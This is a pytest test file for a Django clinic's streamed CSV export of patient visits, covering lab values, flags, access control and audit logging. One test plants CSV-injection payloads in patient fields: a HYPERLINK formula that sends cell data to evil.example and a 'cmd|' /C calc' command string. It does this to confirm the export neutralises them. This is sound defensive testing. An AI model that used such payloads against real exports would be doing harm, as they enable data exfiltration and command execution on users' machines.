"""A clinic's visits as CSV, streamed: one row per visit with flags, labs, grades and imaging."""

import csv
import io

import pytest
from django.urls import reverse

from checklists import services
from checklists.entries import ImagingEntry, VisitEntry
from tests.conftest import TODAY, all_no, lab

from .helpers import assert_login_redirect, login

pytestmark = pytest.mark.django_db


def url(clinic):
    return reverse("checklists:visits-export", args=[clinic.pk])


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_exports_one_row_per_visit(nurse, patient, clinic_a, patient_b, outsider):
    entry = VisitEntry(
        visit_date=TODAY,
        answers=all_no(limb_weakness=True),
        labs=(lab("calcium_total", "3.2", "mmol/L"), lab("albumin", "30", "g/L"), lab("alp", "300", "U/L")),
        imaging=(ImagingEntry("mri", "whole spine", "emergency"),),
    )
    services.record_visit(patient=patient, seen_by=nurse, entry=entry)
    services.record_visit(patient=patient_b, seen_by=outsider, entry=VisitEntry(visit_date=TODAY, answers=all_no()))
    response = login(nurse).get(url(clinic_a))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    (row,) = rows(response)
    assert row["mrn"] == "A001" and row["tier"] == "emergency"
    assert row["flag_codes"] == "ALP_ELEVATED HYPERCALCAEMIA_LAB MSCC_SUSPECTED"
    assert (row["calcium"], row["calcium_unit"], row["albumin"], row["albumin_unit"]) == ("3.2", "mmol/L", "30", "g/L")
    assert (row["alp"], row["alp_unit"]) == ("300", "U/L")
    assert (row["corrected_calcium"], row["corrected_calcium_unit"]) == ("3.4", "mmol/L")
    assert (row["corrected_calcium_converted"], row["corrected_calcium_converted_unit"]) == ("13.6", "mg/dL")
    assert (row["calcium_ctcae_grade"], row["alp_ctcae_grade"], row["alp_ratio"]) == ("3", "1", "2.041")
    assert row["imaging"] == "mri: whole spine (emergency)"


def test_another_clinic_is_404(outsider, clinic_a):
    assert login(outsider).get(url(clinic_a)).status_code == 404


def test_anonymous_goes_to_login(client, clinic_a):
    assert_login_redirect(client.get(url(clinic_a)), url(clinic_a))


def test_wrong_method(nurse, clinic_a):
    assert login(nurse).post(url(clinic_a)).status_code == 405


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_are_neutralised(nurse, clinic_a, start):
    """A patient named =HYPERLINK(…) must open as text in Excel, not run (OWASP "CSV injection")."""
    from tests.conftest import make_patient

    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    patient = make_patient(clinic_a, mrn=f"{start}cmd|' /C calc'!A0", family_name=evil, given_name="Eve")
    services.record_visit(patient=patient, seen_by=nurse, entry=VisitEntry(visit_date=TODAY, answers=all_no()))
    (row,) = rows(login(nurse).get(url(clinic_a)))
    assert row["family_name"] == "'" + evil
    assert row["mrn"].startswith("'" + start)
    assert row["given_name"] == "Eve"


def test_the_export_is_a_security_event(nurse, clinic_a):
    from checklists.models import SecurityEvent

    b"".join(login(nurse).get(url(clinic_a)).streaming_content)
    assert SecurityEvent.objects.filter(action="export_visits", clinic=clinic_a).count() == 1
